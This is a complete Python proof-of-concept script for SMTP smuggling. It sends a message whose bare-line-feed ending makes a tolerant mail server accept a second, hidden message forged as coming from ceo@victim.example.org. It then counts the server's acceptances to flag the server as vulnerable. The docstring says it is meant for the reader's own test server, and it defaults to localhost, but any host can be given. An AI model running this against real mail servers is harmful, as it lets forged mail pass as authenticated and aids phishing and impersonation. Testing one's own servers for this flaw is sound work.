#!/usr/bin/env python3
"""Sends one message that a tolerant server sees as two.

Only for a test server of your own: it talks to 127.0.0.1 unless told otherwise.
"""
import argparse
import socket

OUTER = (
    b"From: <areum@relay.example.net>\r\n"
    b"Subject: the outer one\r\n"
    b"\r\n"
    b"hello\n.\r\n"          # ← the bare line feed is the whole trick
)
INNER = (
    b"MAIL FROM:<ceo@victim.example.org>\r\n"
    b"RCPT TO:<user@victim.example.org>\r\n"
    b"DATA\r\n"
    b"From: <ceo@victim.example.org>\r\n"
    b"Subject: the inner one\r\n"
    b"\r\n"
    b"This was never submitted.\r\n"
    b".\r\n"
)


def command(sock: socket.socket, line: bytes) -> bytes:
    sock.sendall(line + b"\r\n")
    answer = sock.recv(1024)
    print(">", line.decode(), "\n<", answer.decode().rstrip())
    return answer


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=2525)
    options = parser.parse_args()
    with socket.create_connection((options.host, options.port), timeout=10) as sock:
        print("<", sock.recv(1024).decode().rstrip())
        command(sock, b"EHLO relay.example.net")
        command(sock, b"MAIL FROM:<areum@relay.example.net>")
        command(sock, b"RCPT TO:<user@victim.example.org>")
        command(sock, b"DATA")
        sock.sendall(OUTER + INNER)
        answers = sock.recv(4096).count(b"250 ")
        print("accepted messages:", answers, "(vulnerable)" if answers > 1 else "")


if __name__ == "__main__":
    main()
